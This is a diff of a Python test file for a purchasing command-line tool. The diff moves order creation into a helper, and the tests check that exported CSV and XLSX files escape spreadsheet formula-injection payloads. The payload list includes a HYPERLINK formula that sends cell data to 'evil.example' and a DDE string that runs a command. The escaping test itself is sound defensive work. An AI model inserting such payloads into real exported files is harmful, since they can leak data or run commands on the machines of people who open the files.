@@ -18,6 +18,7 @@ from core.tabular import csv_bytes, escape_cell, xlsx_bytes
 from data.db import Database
 from tests.helpers import SAMPLES
 from tests.helpers.cli import Station, refused
+from tests.helpers.orders import sent_order_cli
 
 # The four payloads of the issue, and the other starts OWASP names.
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)"]
@@ -37,7 +38,7 @@ def station(tmp_path, monkeypatch):
 
 @pytest.fixture
 def order(station):
-    return station.json("po", "create", "--supplier", "SGM", "--line", "96536697:4", as_="PLAN1")["po"]
+    return sent_order_cli(station, "SGM", "96536697:4")
 
 
 def _mode(path) -> int:
@@ -220,7 +221,7 @@ def test_po_export_escapes_part_names_in_csv_and_xlsx(station, tmp_path):
         added = station.run("part", "add", part_no, "--name", payload, "--price", "10", as_="PLAN1")
         assert added.exit_code == 0, added.stderr
         lines += ["--line", f"{part_no}:2"]
-    po = station.json("po", "create", "--supplier", "SGM", *lines, as_="PLAN1")["po"]
+    po = sent_order_cli(station, "SGM", *lines[1::2])
     assert station.run("po", "export", po, "--out", str(tmp_path / "po.csv")).exit_code == 0
     rows = list(csv.reader(io.StringIO((tmp_path / "po.csv").read_text(encoding="utf-8-sig"))))
     assert [row[4] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
